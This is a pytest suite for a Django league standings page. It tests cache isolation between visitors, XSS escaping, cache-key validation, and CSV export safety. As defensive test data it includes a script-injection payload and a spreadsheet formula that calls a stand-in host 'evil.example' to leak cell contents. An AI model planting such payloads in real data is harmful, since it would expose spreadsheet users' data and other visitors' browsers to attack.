"""The standings page shared by every visitor holds nothing one visitor typed, its downloads are
inert in a spreadsheet, and a format it does not offer is refused, not a server error."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from league.models import Team
from league.standings_cache import recent_page_key, standings_page_key

pytestmark = pytest.mark.django_db

MARKER = "zz-visitor-typed-this"


def url(season) -> str:
    return f"/seasons/{season.pk}/standings/"


@pytest.mark.parametrize("recent", [0, 2])
def test_a_visitors_query_string_never_reaches_another_visitors_page(
    played_season, settings, recent
):
    settings.STANDINGS_RECENT_SECONDS = recent
    first = Client().get(url(played_season) + f"?sort=-spread&x={MARKER}&next=/{MARKER}")
    assert first.status_code == 200 and MARKER not in first.content.decode()
    second = Client().get(url(played_season) + "?sort=-spread").content.decode()
    assert MARKER not in second
    assert f'name="next" type="hidden" value="{url(played_season)}?sort=-spread"' in second
    odd_sort = Client().get(url(played_season) + f"?sort={MARKER}").content.decode()
    assert MARKER not in odd_sort
    assert Client().get(url(played_season)).content.decode() == odd_sort  # the same shared page


def test_a_script_in_a_visitors_query_string_never_reaches_a_later_visitor(played_season):
    script = "<script>alert('zz')</script>"
    first = Client().get(url(played_season), {"sort": "-spread", "x": script})
    assert first.status_code == 200
    for later in (
        Client().get(url(played_season), {"sort": "-spread"}),
        Client().get(url(played_season)),
    ):
        page = later.content.decode()
        assert "alert(" not in page and "&lt;script&gt;alert" not in page


def test_the_stored_page_carries_no_query_string(played_season):
    from league.models import StandingsPage
    from league.tasks import recompute_standings

    recompute_standings(played_season.pk)
    for page in StandingsPage.objects.filter(season=played_season):
        assert f'value="{url(played_season)}"' in page.html


def test_cache_keys_refuse_anything_but_a_site_language_and_a_sortable_column():
    assert standings_page_key(1, "fr", "-spread", tag="t") == "standings-page:t:1:fr:-spread"
    for language, sort in [("en", MARKER), ("en", "-spread&x=1"), (MARKER, ""), ("en", "--rank")]:
        with pytest.raises(ValueError):
            standings_page_key(1, language, sort, tag="t")
        with pytest.raises(ValueError):
            recent_page_key(1, language, sort, tag="t")


def test_a_signed_in_captains_page_is_never_served_to_visitors(client, played_season, ann):
    client.force_login(ann)
    mine = client.get(url(played_season) + f"?x={MARKER}").content.decode()
    assert "Log out (ann)" in mine
    visitor = Client().get(url(played_season)).content.decode()
    assert "Log out" not in visitor and MARKER not in visitor


def export(season, **extra) -> list[list[str]]:
    response = Client().get(url(season), {"_export": "csv", **extra})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_team_named_like_a_formula_exports_inert(played_season):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click for prize")'
    Team.objects.filter(season=played_season, name="Nobs").update(name=evil)
    Team.objects.filter(season=played_season, name="His Heels").update(name="@SUM(1+1)")
    rows = export(played_season)
    header, body = rows[0], rows[1:]
    team = header.index("Team")
    names = {row[team] for row in body}
    assert "'" + evil in names and "'@SUM(1+1)" in names and "Fifteen Two" in names
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_negative_spreads_still_export_as_numbers(played_season):
    rows = export(played_season)
    spread = rows[0].index("Spread")
    spreads = {row[rows[0].index("Team")]: row[spread] for row in rows[1:]}
    assert spreads["Nobs"] == "-30" and int(spreads["Nobs"]) == -30
    assert spreads["Fifteen Two"] == "19"


def test_the_csv_follows_the_page_columns_and_the_readers_language(played_season):
    rows = export(played_season)
    assert rows[0][:3] == ["Rank", "Team", "Played"] and "Placed by" in rows[0]
    french = Client().get(url(played_season), {"_export": "csv"}, HTTP_ACCEPT_LANGUAGE="fr")
    assert french.content.decode().startswith("Rang,Équipe")


@pytest.mark.parametrize("fmt", ["xlsx", "xls", "ods", "json", "latex", "yaml", "tsv", MARKER])
def test_an_export_format_the_page_does_not_offer_is_a_400(client, played_season, ann, fmt):
    visitor = Client().get(url(played_season), {"_export": fmt})
    assert visitor.status_code == 400 and MARKER not in visitor.content.decode()
    client.force_login(ann)
    assert client.get(url(played_season), {"_export": fmt}).status_code == 400


def test_an_unknown_season_is_a_404_for_visitors_and_downloads():
    assert Client().get("/seasons/999999/standings/").status_code == 404
    assert Client().get("/seasons/999999/standings/?_export=csv").status_code == 404
